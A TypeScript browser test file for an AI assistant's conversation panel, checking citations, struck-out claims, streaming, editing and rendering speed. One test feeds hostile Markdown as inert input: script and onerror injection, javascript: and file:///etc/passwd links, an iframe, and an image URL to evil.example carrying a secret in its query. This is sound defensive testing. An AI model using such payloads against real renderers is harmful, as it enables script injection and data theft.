import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { AssistantHostApi, AssistantState, AssistantViewApi, Turn } from '../../src/protocol/assistant';
import { Rpc } from '../../src/protocol/rpc';
import { type OpenedAssistant, openAssistant, ScriptedAssistant } from './harness/assistant-page';
import { conversations, noAnswer, report, turn } from './harness/assistant-states';
import { chromiumPath, launch, servePage } from './harness/served-page';

let browser: Browser;
let assistant: ScriptedAssistant;
let opened: OpenedAssistant;
let page: Page;

async function open(state: Partial<AssistantState>, height = 800): Promise<void> {
  assistant = new ScriptedAssistant(state);
  opened = await openAssistant(browser, assistant, { width: 600, height });
  page = opened.page;
}

const answering = (given: Partial<Turn> = {}) =>
  turn({ status: 'answering', steps: [], answer: noAnswer, usage: '', ...given });
const say = (text: string, id = 't1') => opened.host.notify('text', { turn: id, text });
const asked = (name: Parameters<ScriptedAssistant['askedFor']>[0]) =>
  expect.poll(() => assistant.askedFor(name));
const answer = () => page.locator('.answer');
const said = () => page.locator('[role=status].unseen').first();
const button = (name: string | RegExp) => page.getByRole('button', { name, exact: typeof name === 'string' });

describe.skipIf(!chromiumPath)('the conversation, in a browser', () => {
  beforeAll(async () => {
    browser = await launch('assistant-transcript');
  });
  afterAll(() => browser?.close());
  afterEach(async () => {
    expect(opened.complaints).toEqual([]);
    await page.close();
  });

  describe('a checked answer', () => {
    test('goes to the lines it cites, by mouse and by keyboard', async () => {
      await open(conversations.answered);
      await page.locator('.citation', { hasText: 'L18240–18252' }).first().click();
      await page.locator('.citation', { hasText: 'B:L7' }).focus();
      await page.keyboard.press('Enter');
      await asked('reveal').toEqual([
        { document: '', line: 18_240 },
        { document: 'B', line: 7 },
      ]);
    });

    test('says what a cited line says, and why a struck one is struck, where the focus is', async () => {
      await open(conversations.answered);
      const note = page.locator('.note-box');
      await page.locator('.citation', { hasText: 'B:L7' }).focus();
      await expect.poll(() => note.textContent()).toBe('pool size 80');
      const struck = page.locator('.citation.is-false').first();
      await struck.focus();
      await expect.poll(() => note.textContent()).toBe('struck out: This log ends at line 41,206.');
      expect(await struck.getAttribute('aria-label')).toBe(
        'L98120: struck out: This log ends at line 41,206.',
      );
      await page.keyboard.press('Escape');
      await expect.poll(() => note.isVisible()).toBe(false);
      await page.keyboard.press('Enter');
      expect(assistant.askedFor('reveal')).toEqual([]);
    });

    test('strikes out what is between its marks and nothing else', async () => {
      await open(conversations.answered);
      expect(await page.locator('.answer del.struck').allTextContents()).toEqual([
        'The harbour firewall dropped the replica’s traffic ',
        '.',
        'Nobody was charged twice.',
      ]);
      expect(await page.locator('.facts > span').allTextContents()).toEqual([
        'sent to api.example.com',
        '5 citations checked',
        '2 struck out',
        '3,412 tokens in, 611 out, 0.004 USD',
      ]);
    });

    test('opens no link by itself', async () => {
      await open(conversations.answered);
      const before = page.url();
      await page.getByRole('link', { name: 'the runbook' }).click();
      await asked('openLink').toEqual(['https://wiki.example.com/berth-db?page=failover#pool']);
      expect(page.url()).toBe(before);
    });

    test('gives its code to the clipboard', async () => {
      await open(conversations.answered);
      await button('Copy Code').click();
      await expect
        .poll(() => page.evaluate('navigator.clipboard.readText()'))
        .toBe('[berth-db]\npool.size = 40   ; the primary has 80');
    });
  });

  test('hostile Markdown becomes text: nothing is loaded, nothing runs', async () => {
    const requests: string[] = [];
    await open({ turns: [answering()] });
    page.on('request', (request) => requests.push(request.url()));
    const lines = [
      '<img src="https://evil.example/x.png" onerror="window.hacked=1"><script>window.hacked=1</script>',
      '![spy](https://evil.example/spy.png?q=secret)',
      '[click](javascript:window.hacked=1) [run](command:workbench.action.quit) [file](file:///etc/passwd)',
      '<iframe src="https://evil.example"></iframe>',
      '\u202egnitirw sdrawkcab \u0000 \u001b[31mred &#57344;0&#57345; \uE0000\uE001 [L12]',
    ];
    say(lines.join('\n\n'));
    await expect.poll(() => answer().textContent()).toContain('[L12]');
    expect(await answer().locator('img, script, iframe, a, .citation').count()).toBe(0);
    expect(await answer().textContent()).toContain('<script>window.hacked=1</script>');
    for (const unseen of ['\u202e', '\u0000', '\u001b'])
      expect(await answer().textContent()).not.toContain(unseen);
    const hosts = await page.evaluate<string[]>(
      `[...document.querySelectorAll('.answer [data-address]')].map((link) => new URL(link.dataset.address).origin)`,
    );
    expect(new Set(hosts)).toEqual(new Set(['https://evil.example']));
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(requests).toEqual([]);
  });

  describe('an answer that comes', () => {
    test('leaves a selection and a reader who scrolled up where they are', async () => {
      await open({ turns: [answering()] }, 500);
      say(`${'The pool ran dry since two.\n\n'.repeat(40)}And then`);
      await expect.poll(() => answer().locator('p').count()).toBe(41);
      await page.evaluate(`(() => {
        const [first, last] = [...document.querySelectorAll('.answer p')].filter((_p, i) => i === 0 || i === 40);
        getSelection().setBaseAndExtent(first.firstChild, 4, last.firstChild, 3);
        document.querySelector('.transcript').scrollTop = 60;
      })()`);
      const top = () => page.evaluate<number>(`document.querySelector('.transcript').scrollTop`);
      await expect.poll(top).toBe(60);
      say(' the locks piled up.\n\nSince then nothing.');
      await expect.poll(() => answer().locator('p').count()).toBe(42);
      expect(await page.evaluate('getSelection().toString().slice(-3)')).toBe('And');
      expect(await top()).toBe(60);
    });

    test('keeps a reader at the end there', async () => {
      await open({ turns: [answering()] }, 500);
      say('The pool ran dry since two.\n\n'.repeat(60));
      await expect.poll(() => answer().locator('p').count()).toBe(60);
      await expect
        .poll(() =>
          page.evaluate(`(() => { const main = document.querySelector('.transcript');
          return main.scrollTop > 500 && main.scrollHeight - main.clientHeight - main.scrollTop < 1; })()`),
        )
        .toBe(true);
    });

    test('is said once, when it is complete; steps are said as they begin', async () => {
      await open({ turns: [answering({ status: 'investigating' })] });
      const step = { id: 's1', state: 'running', title: 'Searching for “pool”', detail: '' } as const;
      opened.host.notify('turn', answering({ status: 'investigating', steps: [step] }));
      await expect.poll(() => said().textContent()).toBe('Searching for “pool”');
      say('The pool ran');
      await expect.poll(() => answer().textContent()).toBe('The pool ran');
      expect(await said().textContent()).toBe('Searching for “pool”');
      opened.host.notify('turn', turn({ answer: { ...noAnswer, checked: 'The pool ran dry.' } }));
      await expect.poll(() => said().textContent()).toBe('Answer: The pool ran dry.');
      expect(
        await page.locator('[aria-live=polite], [aria-live=assertive]').filter({ has: answer() }).count(),
      ).toBe(0);
    });

    test('can be stopped', async () => {
      await open({ turns: [answering()] });
      await button('Stop').click();
      await asked('stop').toEqual([undefined]);
    });
  });

  describe('a question', () => {
    const field = () => page.getByRole('textbox', { name: 'Edited question' });

    test('is edited in its place and sent anew with Enter', async () => {
      await open(conversations.answered);
      await button('Edit and Resend').click();
      await field().fill('Why at 02:14?');
      await page.keyboard.press('Shift+Enter');
      await page.keyboard.type('And who?');
      await page.keyboard.press('Enter');
      await asked('edit').toEqual([{ turn: 't1', text: 'Why at 02:14?\nAnd who?' }]);
    });

    test('stays as it was after Escape, and the focus goes back', async () => {
      await open(conversations.answered);
      await button('Edit and Resend').click();
      await field().fill('Something else');
      await page.keyboard.press('Escape');
      await expect
        .poll(() => page.getByRole('heading', { level: 2 }).textContent())
        .toBe('Why did bookings stop at 02:14?');
      expect(await page.evaluate('document.activeElement.title')).toBe('Edit and Resend');
      expect(assistant.askedFor('edit')).toEqual([]);
    });

    test('cannot be edited while one is answered', async () => {
      await open(conversations.investigating);
      expect(await button('Edit and Resend').count()).toBe(0);
    });
  });

  test('what a turn offers is asked of the host', async () => {
    await open(conversations.cut);
    await button('Resume').click();
    await button('Retry').click();
    await button('Copy Answer').click();
    await asked('act').toEqual([{ turn: 't1', action: 'resume' }]);
    await asked('retry').toEqual(['t1']);
    await asked('copy').toEqual(['t1']);
  });

  test('an empty conversation offers questions, and a summary without a model', async () => {
    await open(conversations['with a model']);
    await button('Why did bookings stop at 02:14?').click();
    await button('Summarise Without a Model').click();
    await asked('ask').toEqual([{ text: 'Why did bookings stop at 02:14?' }]);
    await asked('summarise').toEqual([undefined]);
  });

  test('a report’s evidence goes to its lines', async () => {
    await open({ turns: [turn({ answer: noAnswer, report })] });
    await page.locator('.causes .citation').nth(1).click();
    await asked('reveal').toEqual([{ document: '', line: 18_004 }]);
  });

  test('another conversation takes the place of the one that was shown', async () => {
    await open(conversations['two turns']);
    opened.host.notify('state', {
      ...assistant.state,
      conversation: 'c2',
      turns: [turn({ id: 't9', question: 'Who?' })],
    });
    await expect.poll(() => page.getByRole('heading', { level: 2 }).allTextContents()).toEqual(['Who?']);
  });

  test('what keeps the page from opening is said', async () => {
    const served = await servePage(browser, 'assistant');
    opened = { ...served, host: opened.host };
    page = served.page;
    new Rpc<AssistantHostApi, AssistantViewApi>(served.port, {
      ...new ScriptedAssistant().handlers,
      ready: () => {
        throw new Error('The log has gone: it was moved or deleted.');
      },
    });
    await served.open();
    await page.getByRole('alert').waitFor();
    expect(await page.getByRole('alert').textContent()).toBe('The log has gone: it was moved or deleted.');
  });

  test('shows each piece of a long answer at once, and no frame of it is long', async () => {
    await open({ turns: [answering()] });
    say(longText.slice(0, 18_000));
    await expect.poll(() => answer().locator('.code').count()).toBeGreaterThan(50);
    const { usualFrameMs, mostFrames } = await page.evaluate<{ usualFrameMs: number; mostFrames: number }>(
      `(${streamed})(${JSON.stringify(pieces())})`,
    );
    // The usual one, as any may be the one in which a busy machine did something else: 3 ms at rest.
    expect(usualFrameMs).toBeLessThan(60);
    // Of 16 ms each.
    expect(mostFrames).toBeLessThanOrEqual(2);
    const shown = (await answer().textContent()) ?? '';
    expect(shown.length).toBeGreaterThan(10_000);
  });
});

const part =
  '## At 02:14\n\nThe *pool* ran **dry** at `02:14:07` [L18212], and bookings were refused:\n\n- F-204 first\n- then the rest\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\npool.size = 40\n```\n\n';
const longText = part.repeat(Math.ceil(20_000 / part.length)).slice(0, 20_000);

/** The end of it in the pieces a model sends. */
function pieces(): readonly string[] {
  return longText.slice(18_000).match(/[\s\S]{1,40}/g) ?? [];
}

/** In the page: one piece after another, each waited for until it is on screen. */
const streamed = `async (pieces) => {
  const durations = [];
  let mostFrames = 0;
  const answer = document.querySelector('.answer');
  const ask = window.requestAnimationFrame.bind(window);
  const frame = () => new Promise((resolve) => ask(resolve));
  window.requestAnimationFrame = (work) => ask((time) => {
    const begun = performance.now();
    work(time);
    document.querySelector('.transcript').getBoundingClientRect();
    durations.push(performance.now() - begun);
  });
  for (const text of pieces) {
    let seen = false;
    const observer = new MutationObserver(() => { seen = true; });
    observer.observe(answer, { childList: true, characterData: true, subtree: true });
    const received = new Promise((resolve) => window.addEventListener('message', resolve, { once: true }));
    window.fromHost(JSON.stringify({ rpc: 'notice', method: 'text', parameter: { turn: 't1', text } }));
    await received;
    let frames = 0;
    // A piece of blanks alone shows nothing.
    for (; !seen && frames < 3 && text.trim() !== ''; frames++) await frame();
    mostFrames = Math.max(mostFrames, frames);
    observer.disconnect();
  }
  const usualFrameMs = durations.sort((a, b) => a - b)[Math.floor(durations.length / 2)];
  return { usualFrameMs, mostFrames };
}`;
